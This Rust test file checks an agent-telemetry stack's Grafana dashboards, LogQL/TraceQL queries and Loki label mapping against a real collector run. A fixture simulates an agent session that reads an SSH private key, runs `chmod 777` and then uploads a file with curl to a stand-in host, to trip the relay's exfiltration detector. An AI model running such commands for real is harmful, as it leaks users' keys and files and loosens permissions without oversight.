//! The Grafana, Loki and Tempo files proved offline (slow stage; Grafana, Loki and Tempo are never
//! run here, see docs/grafana.md), with Grafana's own Apache-2.0 code and the pipeline's real output:
//!
//! - every LogQL / TraceQL expression (dashboard panels and variables, alert rules, the datasources'
//!   link templates with Grafana's variables substituted) parses with `@grafana/lezer-logql` /
//!   `@grafana/lezer-traceql`, the grammars of Grafana's query editors — and broken ones do not;
//! - every dashboard strict-decodes with the Grafana Foundation SDK (`UnmarshalJSONStrict`);
//! - on the real pipeline (fixtures and a security session through `hook` → `relay` → the shipped
//!   collector, whose own output is captured by its file exporter): every label, structured-metadata
//!   key and span attribute a query names is one that Loki builds from that output under
//!   loki/loki.yaml's `otlp_config`; every panel's and rule's LogsQL twin
//!   (grafana/victorialogs-twins.yaml) gives, on VictoriaLogs, the answer the journal gives; every
//!   span's trace→logs link finds that span's logs, and every log's trace link a trace in Jaeger.
//!
//! Tools come from scripts/grafana/tools.sh (npm + Go module proxy, cached by version).

use crate::harness::stack;

use crate::harness::relay;

use serde_json::{json, Value};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn read(rel: &str) -> String {
    std::fs::read_to_string(root().join(rel)).unwrap_or_else(|e| panic!("read {rel}: {e}"))
}

fn yaml_json(rel: &str) -> Value {
    let y: serde_yaml::Value = serde_yaml::from_str(&read(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"));
    serde_json::to_value(y).unwrap()
}

// ------------------------------------------------------------------------------------ tools

struct Tools {
    lezer_dir: PathBuf,
    dashcheck: PathBuf,
}

/// scripts/grafana/tools.sh: installs (once) and names the checkers. Panics with its output
/// when it cannot: a slow test never skips.
fn tools() -> Tools {
    let out = Command::new("bash")
        .arg(root().join("scripts/grafana/tools.sh"))
        .stdin(Stdio::null())
        .output()
        .expect("run scripts/grafana/tools.sh");
    assert!(
        out.status.success(),
        "slow stage prerequisite missing: scripts/grafana/tools.sh failed (needs node, npm and go):\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let get = |k: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{k}=")))
            .map(PathBuf::from)
            .unwrap_or_else(|| panic!("tools.sh printed no {k}: {text}"))
    };
    Tools { lezer_dir: get("LEZER_CHECK"), dashcheck: get("DASHCHECK") }
}

#[derive(Debug, Clone)]
struct Query {
    id: String,
    lang: &'static str,
    query: String,
}

/// Runs the lezer checker: id → result ({ok, errors, names}).
fn parse_all(t: &Tools, queries: &[Query]) -> BTreeMap<String, Value> {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("queries.json");
    let items: Vec<Value> = queries.iter().map(|q| json!({"id": q.id, "lang": q.lang, "query": q.query})).collect();
    std::fs::write(&input, serde_json::to_string(&items).unwrap()).unwrap();
    let out = Command::new("node").arg(t.lezer_dir.join("lezer-check.mjs")).arg(&input).output().expect("run node");
    assert!(out.status.success(), "lezer-check: {}", String::from_utf8_lossy(&out.stderr));
    let res: Vec<Value> = serde_json::from_slice(&out.stdout).expect("lezer-check output");
    assert_eq!(res.len(), queries.len());
    res.into_iter().map(|r| (r["id"].as_str().unwrap().to_string(), r)).collect()
}

// ------------------------------------------------------------------------ the queries we ship

/// Grafana's own variables, as Grafana substitutes them before a query is sent.
#[derive(Debug, Clone)]
struct Vars {
    project: String,
    group: String,
    agent: String,
    session: String,
}

impl Vars {
    fn all() -> Vars {
        Vars { project: ".*".into(), group: ".*".into(), agent: ".*".into(), session: ".*".into() }
    }
}

/// A regex-escaped single value (Grafana's regex formatting of a variable in `=~`).
fn regex_escape(v: &str) -> String {
    let mut out = String::new();
    for c in v.chars() {
        if "\\^$.|?*+()[]{}".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// Substitutes the dashboard variables and Grafana's interval variables; `escape` is applied
/// to each variable value (LogQL strings need `\` doubled; LogsQL the same).
fn substitute(q: &str, v: &Vars) -> String {
    q.replace("$__auto", "1m")
        .replace("$__range", "86400s")
        .replace("$project", &v.project.replace('\\', "\\\\"))
        .replace("$group", &v.group.replace('\\', "\\\\"))
        .replace("$agent", &v.agent.replace('\\', "\\\\"))
        .replace("$session", &v.session.replace('\\', "\\\\"))
}

/// Every expression we ship: (id, language, query with Grafana's variables left in).
fn shipped_queries() -> Vec<Query> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(root().join("grafana/dashboards")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().and_then(|x| x.to_str()) != Some("json") {
            continue;
        }
        let d: Value = serde_json::from_str(&std::fs::read_to_string(&p).unwrap()).unwrap();
        let uid = d["uid"].as_str().unwrap().to_string();
        for p in d["panels"].as_array().unwrap() {
            for t in p["targets"].as_array().unwrap() {
                let id = format!("{uid} / {} / {}", p["title"].as_str().unwrap(), t["refId"].as_str().unwrap());
                match t["datasource"]["type"].as_str().unwrap() {
                    "loki" => out.push(Query { id, lang: "logql", query: t["expr"].as_str().unwrap().to_string() }),
                    "tempo" => out.push(Query { id, lang: "traceql", query: t["query"].as_str().unwrap().to_string() }),
                    other => panic!("{id}: unexpected datasource type {other}"),
                }
            }
        }
        for v in d["templating"]["list"].as_array().unwrap() {
            let id = format!("{uid} / variable {}", v["name"].as_str().unwrap());
            match v["datasource"]["type"].as_str().unwrap() {
                "loki" => {
                    out.push(Query { id, lang: "logql", query: v["query"]["stream"].as_str().unwrap().to_string() })
                }
                // a Tempo tag-values variable names an attribute: parse it as a TraceQL filter
                "tempo" => out.push(Query {
                    id,
                    lang: "traceql",
                    query: format!("{{ {} != nil }}", v["query"]["label"].as_str().unwrap()),
                }),
                other => panic!("{id}: unexpected datasource type {other}"),
            }
        }
    }
    // Grafana-managed alert rules (provisioning): each rule's Loki query.
    let alerting = yaml_json("grafana/provisioning/alerting/agent-telemetry.yaml");
    for g in alerting["groups"].as_array().unwrap() {
        for r in g["rules"].as_array().unwrap() {
            for d in r["data"].as_array().unwrap() {
                if d["datasourceUid"] == "agent-telemetry-loki" {
                    out.push(Query {
                        id: format!("rule {}", r["title"].as_str().unwrap()),
                        lang: "logql",
                        query: d["model"]["expr"].as_str().unwrap().to_string(),
                    });
                }
            }
        }
    }
    let rules = yaml_json("loki/rules/agent-telemetry.yaml");
    for g in rules["groups"].as_array().unwrap() {
        for r in g["rules"].as_array().unwrap() {
            out.push(Query {
                id: format!("rule {}", r["alert"].as_str().unwrap()),
                lang: "logql",
                query: r["expr"].as_str().unwrap().to_string(),
            });
        }
    }
    out
}

/// The datasources' trace → logs templates, as provisioning leaves them (`$$` → `$`).
fn link_templates() -> Vec<(String, String)> {
    let ds = yaml_json("grafana/provisioning/datasources/agent-telemetry.yaml");
    ds["datasources"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| {
            let q = d["jsonData"]["tracesToLogsV2"]["query"].as_str()?;
            Some((d["type"].as_str().unwrap().to_string(), q.replace("$$", "$")))
        })
        .collect()
}

fn link_query(template: &str, trace_id: &str, span_id: &str) -> String {
    template.replace("${__span.traceId}", trace_id).replace("${__span.spanId}", span_id)
}

fn assert_all_parse(t: &Tools, queries: &[Query]) -> BTreeMap<String, Value> {
    let res = parse_all(t, queries);
    let bad: Vec<String> = queries
        .iter()
        .filter(|q| res[&q.id]["ok"] != true)
        .map(|q| format!("{} ({}): {}\n    errors: {}", q.id, q.lang, q.query, res[&q.id]["errors"]))
        .collect();
    assert!(bad.is_empty(), "queries Grafana's parser rejects:\n{}", bad.join("\n"));
    res
}

#[test]
#[ignore = "slow stage: node + npm (@grafana/lezer-logql, @grafana/lezer-traceql) via scripts/grafana/tools.sh"]
fn every_query_parses_with_grafanas_parsers_and_broken_ones_do_not() {
    let t = tools();
    let shipped = shipped_queries();
    let mut qs: Vec<Query> =
        shipped.iter().map(|q| Query { query: substitute(&q.query, &Vars::all()), ..q.clone() }).collect();
    for (ty, tpl) in link_templates() {
        qs.push(Query {
            id: format!("{ty} trace->logs link"),
            lang: "logql",
            query: link_query(&tpl, "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"),
        });
    }
    let n_logql = qs.iter().filter(|q| q.lang == "logql").count();
    let n_traceql = qs.len() - n_logql;
    assert_all_parse(&t, &qs);
    // The check can fail: broken variants of real queries are rejected.
    let first_metric = shipped.iter().find(|q| q.lang == "logql" && q.query.contains("[$__range]")).unwrap();
    let first_traceql = shipped.iter().find(|q| q.lang == "traceql" && q.query.contains("name =")).unwrap();
    let broken = vec![
        Query {
            id: "no range".into(),
            lang: "logql",
            query: substitute(&first_metric.query.replace(" [$__range]", ""), &Vars::all()),
        },
        Query { id: "dotted label".into(), lang: "logql", query: "{service.name=\"claude-code\"}".into() },
        Query {
            id: "unclosed selector".into(),
            lang: "logql",
            query: substitute(&qs[0].query.replacen('}', "", 1), &Vars::all()),
        },
        Query {
            id: "the old ${VAR:-default}".into(),
            lang: "logql",
            query: "{service_name=\"claude-code\"} | x=\"${A:-b}\" [5m]".into(),
        },
        Query {
            id: "traceql: value missing".into(),
            lang: "traceql",
            query: substitute(&first_traceql.query.replace("\"invoke_agent claude-code\"", ""), &Vars::all()),
        },
        Query { id: "empty".into(), lang: "logql", query: "".into() },
    ];
    let res = parse_all(&t, &broken);
    for b in &broken {
        assert_eq!(res[&b.id]["ok"], false, "{}: Grafana's parser accepts a broken query: {}", b.id, b.query);
    }
    println!(
        "parsed {n_logql} LogQL and {n_traceql} TraceQL expressions with Grafana's parsers; {} broken ones rejected",
        broken.len()
    );
}

#[test]
#[ignore = "slow stage: go + the Go module proxy (grafana-foundation-sdk/go) via scripts/grafana/tools.sh"]
fn every_dashboard_strict_decodes_with_the_foundation_sdk() {
    let t = tools();
    let files: Vec<PathBuf> = std::fs::read_dir(root().join("grafana/dashboards"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    assert_eq!(files.len(), 4, "four dashboards");
    let out = Command::new(&t.dashcheck).args(&files).output().expect("run dashcheck");
    let text = String::from_utf8_lossy(&out.stdout);
    println!("{text}");
    assert!(out.status.success(), "dashcheck:\n{text}{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(text.lines().filter(|l| l.starts_with("ok ")).count(), 4);
    // The check can fail: an unknown field, a wrong type, an unknown query type.
    let dir = tempfile::tempdir().unwrap();
    let orig: Value = serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
    let mut cases = Vec::new();
    let mut v = orig.clone();
    v["panels"][0]["legendFormat"] = json!("{{x}}"); // a target field put on the panel
    cases.push(("unknown panel field", v));
    let mut v = orig.clone();
    v["panels"][0]["targets"][0]["expr"] = json!(5);
    cases.push(("wrong type", v));
    let mut v = orig.clone();
    v["panels"][0]["targets"][0]["datasource"]["type"] = json!("lokii");
    cases.push(("unknown query type", v));
    let mut v = orig.clone();
    v["time"] = json!({"from": "now-6h"});
    cases.push(("missing required field", v));
    for (name, v) in cases {
        let p = dir.path().join(format!("{}.json", name.replace(' ', "-")));
        std::fs::write(&p, serde_json::to_string(&v).unwrap()).unwrap();
        let out = Command::new(&t.dashcheck).arg(&p).output().unwrap();
        assert!(
            !out.status.success(),
            "dashcheck accepts a dashboard with {name}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
}

// ------------------------------------------------------------------------------ real pipeline

/// The shipped collector, run a second time next to the stack's, with its file exporter on:
/// what it writes is exactly what it would push to Loki and Tempo.
struct Collector {
    child: std::process::Child,
    archive: PathBuf,
    grpc: u16,
    _dir: tempfile::TempDir,
}

impl Drop for Collector {
    fn drop(&mut self) {
        unsafe {
            libc::kill(self.child.id() as i32, libc::SIGTERM);
        }
        for _ in 0..100 {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn start_collector(s: &stack::Stack) -> Collector {
    // The path scripts/stack/lib.sh computes (its cache key holds the component list's digest).
    let bin = stack::collector_bin(&root());
    assert!(bin.exists(), "slow stage prerequisite missing: {} (just stack-build)", bin.display());
    let dir = tempfile::tempdir().unwrap();
    let (grpc, http, health, metrics) = (free_port(), free_port(), free_port(), free_port());
    let mut cmd = Command::new(&bin);
    cmd.arg("--config").arg(root().join("otel-collector.yaml"));
    for (k, _) in std::env::vars().filter(|(k, _)| k.starts_with("AGENT_TELEMETRY_")) {
        cmd.env_remove(k);
    }
    cmd.env("AGENT_TELEMETRY_OTLP_GRPC_PORT", grpc.to_string())
        .env("AGENT_TELEMETRY_OTLP_HTTP_PORT", http.to_string())
        .env("AGENT_TELEMETRY_COLLECTOR_HEALTH_PORT", health.to_string())
        .env("AGENT_TELEMETRY_COLLECTOR_METRICS_PORT", metrics.to_string())
        .env("AGENT_TELEMETRY_COLLECTOR_QUEUE_DIR", dir.path().join("queue"))
        .env("AGENT_TELEMETRY_ARCHIVE_DIR", dir.path().join("archive"))
        .env("AGENT_TELEMETRY_VICTORIALOGS_ENDPOINT", format!("{}/insert/opentelemetry", s.victorialogs_url()))
        .env("AGENT_TELEMETRY_JAEGER_OTLP_ENDPOINT", format!("127.0.0.1:{}", s.ports.jaeger_otlp_grpc))
        .env("AGENT_TELEMETRY_RETRY_MAX_INTERVAL", "1s")
        .env("AGENT_TELEMETRY_LOGS_EXPORTERS", "[otlp_http/victorialogs, file/archive]")
        .env("AGENT_TELEMETRY_TRACES_EXPORTERS", "[otlp_grpc/jaeger, file/archive]")
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(dir.path().join("collector.log")).unwrap())
        .stderr(std::fs::File::create(dir.path().join("collector.err")).unwrap());
    let child = cmd.spawn().expect("start the collector");
    let ok = stack::wait_for(Duration::from_secs(60), || {
        stack::http_get(&format!("http://127.0.0.1:{health}/"), &[]).ok().filter(|(st, _)| *st == 200)
    });
    let c = Collector { child, archive: dir.path().join("archive/otlp.jsonl"), grpc, _dir: dir };
    assert!(
        ok.is_some(),
        "collector not healthy: {}",
        std::fs::read_to_string(c._dir.path().join("collector.err")).unwrap_or_default()
    );
    c
}

/// One crafted hook call (the fields Claude Code 2.1.328 sends, as in the recorded fixtures).
fn call(sid: &str, project: &Path, event: &str, extra: Value) -> Value {
    let mut v = json!({
        "session_id": sid,
        "transcript_path": project.join(format!(".transcripts/{sid}.jsonl")),
        "cwd": project,
        "permission_mode": "bypassPermissions",
        "hook_event_name": event,
        "prompt_id": format!("{sid}-p1"),
    });
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

fn tool(sid: &str, project: &Path, n: usize, name: &str, input: Value, fail: bool) -> Vec<Value> {
    let id = format!("toolu_{sid}_{n}");
    let pre = call(sid, project, "PreToolUse", json!({"tool_name": name, "tool_input": input, "tool_use_id": id}));
    let post = if fail {
        call(
            sid,
            project,
            "PostToolUseFailure",
            json!({"tool_name": name, "tool_input": input, "tool_use_id": id, "error": "Exit code 1"}),
        )
    } else {
        call(
            sid,
            project,
            "PostToolUse",
            json!({"tool_name": name, "tool_input": input, "tool_use_id": id, "tool_response": {"stdout": "ok"}, "duration_ms": 12}),
        )
    };
    vec![pre, post]
}

/// Runs `hook` for each payload, in `env`'s data dir, as Claude Code would in `project`.
fn run_hooks(env: &relay::Install, project: &Path, payloads: &[Value]) {
    for p in payloads {
        let mut cmd = env.command(&["hook"]);
        cmd.env("CLAUDE_PROJECT_DIR", project).env("CLAUDE_CODE_ENTRYPOINT", "sdk-cli");
        let relay::Run { code, stderr: err, .. } =
            relay::run_with_stdin(cmd, serde_json::to_string(p).unwrap().as_bytes(), Duration::from_secs(20));
        assert_eq!(code, 0, "hook: {err}");
    }
}

/// A session with every security signal and a subagent with token usage (its transcript).
fn security_session(env: &relay::Install, sid: &str, project: &Path) {
    let home = &env.home;
    std::fs::create_dir_all(project.join(".transcripts")).unwrap();
    let sub_transcript = project.join(format!(".transcripts/agent-{sid}.jsonl"));
    std::fs::write(
        &sub_transcript,
        "{\"type\":\"assistant\",\"message\":{\"id\":\"msg_1\",\"model\":\"claude-x\",\"usage\":{\"input_tokens\":1200,\"output_tokens\":80,\"cache_read_input_tokens\":0,\"cache_creation_input_tokens\":0}}}\n\
         {\"type\":\"assistant\",\"message\":{\"id\":\"msg_2\",\"model\":\"claude-x\",\"usage\":{\"input_tokens\":300,\"output_tokens\":20,\"cache_read_input_tokens\":0,\"cache_creation_input_tokens\":0}}}\n",
    )
    .unwrap();
    let agent = format!("sub{}", &sid[..6]);
    // The transcripts the relay reads the model calls from: the main agent's (two requests of a
    // priced model) and the subagent's (two of a model no price table knows: tokens, no cost).
    let usage = |i: u64, o: u64| {
        format!("{{\"input_tokens\":{i},\"output_tokens\":{o},\"cache_read_input_tokens\":10,\"cache_creation_input_tokens\":5}}")
    };
    let answer = |t: &str, req: &str, model: &str, stop: &str, u: String| {
        format!("{{\"type\":\"assistant\",\"timestamp\":\"{t}\",\"requestId\":\"{req}\",\"message\":{{\"id\":\"msg_{req}\",\"model\":\"{model}\",\"stop_reason\":\"{stop}\",\"usage\":{u}}}}}\n")
    };
    let prompt = format!("{{\"type\":\"user\",\"timestamp\":\"2026-01-01T00:00:00.000Z\",\"promptId\":\"{sid}-p1\",\"message\":{{\"role\":\"user\",\"content\":\"deploy\"}}}}\n");
    let main = [
        prompt.clone(),
        answer("2026-01-01T00:00:01.000Z", &format!("req_{sid}_1"), "claude-opus-5-5", "tool_use", usage(1000, 50)),
        answer("2026-01-01T00:00:09.000Z", &format!("req_{sid}_2"), "claude-opus-5-5", "end_turn", usage(2000, 120)),
    ]
    .concat();
    std::fs::write(project.join(format!(".transcripts/{sid}.jsonl")), main).unwrap();
    std::fs::create_dir_all(project.join(format!(".transcripts/{sid}/subagents"))).unwrap();
    let sub = [
        prompt,
        answer("2026-01-01T00:00:03.000Z", &format!("req_{sid}_s1"), "claude-x", "tool_use", usage(400, 30)),
        answer("2026-01-01T00:00:05.000Z", &format!("req_{sid}_s2"), "claude-x", "end_turn", usage(500, 40)),
    ]
    .concat();
    std::fs::write(project.join(format!(".transcripts/{sid}/subagents/agent-{agent}.jsonl")), sub).unwrap();
    let mut p = vec![
        call(sid, project, "SessionStart", json!({"source": "startup"})),
        call(
            sid,
            project,
            "UserPromptSubmit",
            json!({"prompt": "deploy with GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"}),
        ),
    ];
    p.extend(tool(sid, project, 1, "Bash", json!({"command": "chmod 777 notes.txt"}), false));
    p.extend(tool(sid, project, 2, "Read", json!({"file_path": home.join(".ssh/id_rsa")}), false));
    p.extend(tool(
        sid,
        project,
        3,
        "Write",
        json!({"file_path": project.join(".claude/settings.json"), "content": "{}"}),
        false,
    ));
    p.extend(tool(sid, project, 4, "Read", json!({"file_path": project.join("README.md")}), false));
    p.extend(tool(sid, project, 5, "Bash", json!({"command": "false"}), true));
    // The same failing call twice more (behaviour.retry_loop), then an upload after the SSH key
    // was read (behaviour.exfiltration, critical): the relay's behaviour records.
    p.extend(tool(sid, project, 7, "Bash", json!({"command": "false"}), true));
    p.extend(tool(sid, project, 8, "Bash", json!({"command": "false"}), true));
    p.extend(tool(
        sid,
        project,
        9,
        "Bash",
        json!({"command": "curl -s -T notes.txt https://upload.example/in"}),
        false,
    ));
    let agent_call = format!("toolu_{sid}_agent");
    p.push(call(sid, project, "PreToolUse", json!({"tool_name": "Agent", "tool_input": {"description": "review", "prompt": "review", "subagent_type": "reviewer"}, "tool_use_id": agent_call})));
    p.push(call(sid, project, "SubagentStart", json!({"agent_id": agent, "agent_type": "reviewer"})));
    let mut sub_read = tool(sid, project, 6, "Read", json!({"file_path": project.join("notes.txt")}), false);
    for x in &mut sub_read {
        x["agent_id"] = json!(agent);
        x["agent_type"] = json!("reviewer");
    }
    p.extend(sub_read);
    p.push(call(sid, project, "SubagentStop", json!({"agent_id": agent, "agent_type": "reviewer", "agent_transcript_path": sub_transcript, "stop_hook_active": false})));
    p.push(call(sid, project, "PostToolUse", json!({"tool_name": "Agent", "tool_input": {"description": "review"}, "tool_use_id": agent_call, "tool_response": {"agentId": agent, "status": "completed"}})));
    p.push(call(sid, project, "Stop", json!({"stop_hook_active": false})));
    p.push(call(sid, project, "SessionEnd", json!({"reason": "other"})));
    run_hooks(env, project, &p);
}

/// The config file every process of `env` reads ($HOME/.config/agent-telemetry/config.toml).
fn config_file(env: &relay::Install) -> PathBuf {
    let p = env.home.join(".config/agent-telemetry/config.toml");
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    p
}

fn write_agent_config(env: &relay::Install, id: &str, group: &str, role: &str) {
    std::fs::write(config_file(env), format!("[agent]\nid = \"{id}\"\ngroup = \"{group}\"\nrole = \"{role}\"\n"))
        .unwrap();
}

/// The records of every journal, as JSON.
fn journal(envs: &[&relay::Install]) -> Vec<Value> {
    envs.iter().flat_map(|e| relay::journal_records(&e.data)).collect()
}

// ------------------------------------------------------------- Loki's OTLP rules, as configured

/// Loki's label name normalisation (otlptranslator.NormalizeLabel): every character outside
/// [A-Za-z0-9_] becomes `_`, a leading digit gets a `key_` prefix.
fn loki_name(attr: &str) -> String {
    let mut s: String = attr.chars().map(|c| if c.is_ascii_alphanumeric() || c == '_' { c } else { '_' }).collect();
    if s.starts_with(|c: char| c.is_ascii_digit()) {
        s = format!("key_{s}");
    }
    s
}

/// Loki's default index-label list (pkg/loghttp/push/otlp_config.go), prepended unless
/// `ignore_defaults`.
const LOKI_BLESSED: [&str; 17] = [
    "service.name",
    "service.namespace",
    "service.instance.id",
    "deployment.environment",
    "cloud.region",
    "cloud.availability_zone",
    "k8s.cluster.name",
    "k8s.namespace.name",
    "k8s.pod.name",
    "k8s.container.name",
    "container.name",
    "k8s.replicaset.name",
    "k8s.deployment.name",
    "k8s.statefulset.name",
    "k8s.daemonset.name",
    "k8s.cronjob.name",
    "k8s.job.name",
];

/// The action loki.yaml's otlp_config takes for an attribute: the first matching entry
/// (an anchored regex or a listed name), else structured metadata.
fn loki_action(cfgs: &[(String, Option<regex_lite::Regex>, Vec<String>)], attr: &str) -> String {
    for (action, re, names) in cfgs {
        if re.as_ref().is_some_and(|r| r.is_match(attr)) || names.iter().any(|n| n == attr) {
            return action.clone();
        }
    }
    "structured_metadata".into()
}

fn loki_cfgs(v: &Value) -> Vec<(String, Option<regex_lite::Regex>, Vec<String>)> {
    v.as_array()
        .map(|a| {
            a.iter()
                .map(|c| {
                    let re = c["regex"].as_str().map(|r| regex_lite::Regex::new(&format!("^(?:{r})$")).unwrap());
                    let names = c["attributes"]
                        .as_array()
                        .map(|x| x.iter().map(|n| n.as_str().unwrap().to_string()).collect())
                        .unwrap_or_default();
                    (c["action"].as_str().unwrap_or("structured_metadata").to_string(), re, names)
                })
                .collect()
        })
        .unwrap_or_default()
}

/// What Loki would build from the collector's real output: (index labels, structured metadata).
fn loki_view(
    resource_attrs: &BTreeSet<String>,
    log_attrs: &BTreeSet<String>,
    scope: bool,
    has_trace: bool,
) -> (BTreeSet<String>, BTreeSet<String>) {
    let loki = yaml_json("loki/loki.yaml");
    let otlp = &loki["limits_config"]["otlp_config"];
    let mut res_cfg = loki_cfgs(&otlp["resource_attributes"]["attributes_config"]);
    if otlp["resource_attributes"]["ignore_defaults"] != true {
        res_cfg.insert(0, ("index_label".into(), None, LOKI_BLESSED.iter().map(|s| s.to_string()).collect()));
    }
    let log_cfg = loki_cfgs(&otlp["log_attributes"]);
    let mut labels = BTreeSet::new();
    let mut sm = BTreeSet::new();
    for a in resource_attrs {
        match loki_action(&res_cfg, a).as_str() {
            "index_label" => labels.insert(loki_name(a)),
            "structured_metadata" => sm.insert(loki_name(a)),
            _ => false,
        };
    }
    for a in log_attrs {
        if loki_action(&log_cfg, a) == "structured_metadata" {
            sm.insert(loki_name(a));
        }
    }
    // the record's own fields (otlpLogToPushEntry) and the scope
    for f in ["severity_number", "severity_text", "observed_timestamp"] {
        sm.insert(f.into());
    }
    if has_trace {
        sm.insert("trace_id".into());
        sm.insert("span_id".into());
    }
    if scope {
        sm.insert("scope_name".into());
        sm.insert("scope_version".into());
    }
    if !labels.contains("service_name") {
        labels.insert("service_name".into()); // discovered or "unknown_service"
    }
    (labels, sm)
}

/// (resource attrs of logs, log attrs, resource attrs of spans, span attrs) in the collector's output.
fn archive_attrs(
    path: &Path,
) -> (BTreeSet<String>, BTreeSet<String>, BTreeSet<String>, BTreeSet<String>, usize, usize) {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let keys = |a: &Value| -> Vec<String> {
        a.as_array().map(|x| x.iter().map(|kv| kv["key"].as_str().unwrap().to_string()).collect()).unwrap_or_default()
    };
    let (mut lr, mut la, mut sr, mut sa) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    let (mut nlogs, mut nspans) = (0, 0);
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let v: Value = serde_json::from_str(line).unwrap();
        for rl in v["resourceLogs"].as_array().into_iter().flatten() {
            lr.extend(keys(&rl["resource"]["attributes"]));
            for sl in rl["scopeLogs"].as_array().into_iter().flatten() {
                for r in sl["logRecords"].as_array().into_iter().flatten() {
                    nlogs += 1;
                    la.extend(keys(&r["attributes"]));
                }
            }
        }
        for rs in v["resourceSpans"].as_array().into_iter().flatten() {
            sr.extend(keys(&rs["resource"]["attributes"]));
            for ss in rs["scopeSpans"].as_array().into_iter().flatten() {
                for s in ss["spans"].as_array().into_iter().flatten() {
                    nspans += 1;
                    sa.extend(keys(&s["attributes"]));
                }
            }
        }
    }
    (lr, la, sr, sa, nlogs, nspans)
}

// --------------------------------------------------------------------- twins and the journal

/// Values at a JSON pointer with `*` over arrays; "a|b" = the first alternative with a value.
fn values_at(rec: &Value, ptr: &str) -> Vec<Value> {
    for alt in ptr.split('|') {
        let mut cur = vec![rec.clone()];
        for part in alt.trim_start_matches('/').split('/') {
            let mut next = Vec::new();
            for c in cur {
                if part == "*" {
                    next.extend(c.as_array().cloned().unwrap_or_default());
                } else if let Some(x) = c.get(part) {
                    if !x.is_null() {
                        next.push(x.clone());
                    }
                }
            }
            cur = next;
        }
        if !cur.is_empty() {
            return cur;
        }
    }
    Vec::new()
}

fn scalar(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// The journal value a twin field is compared with (`json:` = the JSON list of all matches).
fn journal_key(rec: &Value, ptr: &str) -> String {
    if let Some(p) = ptr.strip_prefix("json:") {
        return serde_json::to_string(&values_at(rec, p)).unwrap();
    }
    let v = values_at(rec, ptr).first().map(scalar).unwrap_or_default();
    if ptr == "/session_id" && v.is_empty() {
        // the relay's resource for a record without a session (src/assemble: a journal repair)
        return "unknown-session".into();
    }
    v
}

fn matches_cond(rec: &Value, ptr: &str, cond: &Value) -> bool {
    let vals: Vec<String> = values_at(rec, ptr).iter().map(scalar).collect();
    match cond {
        Value::String(s) => vals.iter().any(|v| v == s),
        Value::Bool(b) => vals.iter().any(|v| v == &b.to_string()),
        Value::Array(a) => vals.iter().any(|v| a.iter().any(|x| x.as_str() == Some(v))),
        Value::Object(o) => o.iter().all(|(op, arg)| match op.as_str() {
            "present" => (!vals.is_empty() && vals.iter().any(|v| !v.is_empty())) == arg.as_bool().unwrap(),
            "not_in" => vals.iter().all(|v| !arg.as_array().unwrap().iter().any(|x| x.as_str() == Some(v))),
            "prefix" => vals.iter().any(|v| v.starts_with(arg.as_str().unwrap())),
            other => panic!("condition {other}"),
        }),
        other => panic!("condition {other}"),
    }
}

/// The records a dashboard with these variables covers (resource: project, group, agent, session).
fn selected<'a>(records: &'a [Value], vars: &Vars, wh: &Value) -> Vec<&'a Value> {
    let re = |r: &str| regex_lite::Regex::new(&format!("^(?:{r})$")).unwrap();
    let (p, g, a, s) = (re(&vars.project), re(&vars.group), re(&vars.agent), re(&vars.session));
    records
        .iter()
        .filter(|r| {
            p.is_match(&journal_key(r, "/project_name"))
                && g.is_match(&journal_key(r, "/agent_context/agent_group"))
                && a.is_match(&journal_key(r, "/agent_context/fleet_agent_id"))
                && s.is_match(&journal_key(r, "/session_id"))
        })
        .filter(|r| wh.as_object().map(|o| o.iter().all(|(ptr, c)| matches_cond(r, ptr, c))).unwrap_or(true))
        .collect()
}

fn num(v: &Value) -> f64 {
    match v {
        Value::String(s) => s.parse().unwrap_or_else(|_| panic!("not a number: {s}")),
        Value::Number(n) => n.as_f64().unwrap(),
        other => panic!("not a number: {other}"),
    }
}

/// The twin's answer and the journal's, as comparable maps.
fn twin_vs_journal(
    rows: &[Value],
    expect: &Value,
    records: &[Value],
    vars: &Vars,
) -> (BTreeMap<String, f64>, BTreeMap<String, f64>) {
    let (kind, e) = expect.as_object().unwrap().iter().next().unwrap();
    let group: Vec<(String, String)> = e["group"]
        .as_object()
        .map(|g| g.iter().map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string())).collect())
        .unwrap_or_default();
    let row_key =
        |r: &Value| group.iter().map(|(f, _)| r.get(f).map(scalar).unwrap_or_default()).collect::<Vec<_>>().join(" | ");
    let rec_key = |r: &Value| group.iter().map(|(_, p)| journal_key(r, p)).collect::<Vec<_>>().join(" | ");
    let mut got: BTreeMap<String, f64> = BTreeMap::new();
    let mut want: BTreeMap<String, f64> = BTreeMap::new();
    let value = e["value"].as_str().unwrap_or("n");
    match kind.as_str() {
        "count_by" | "sum_by" => {
            for r in rows {
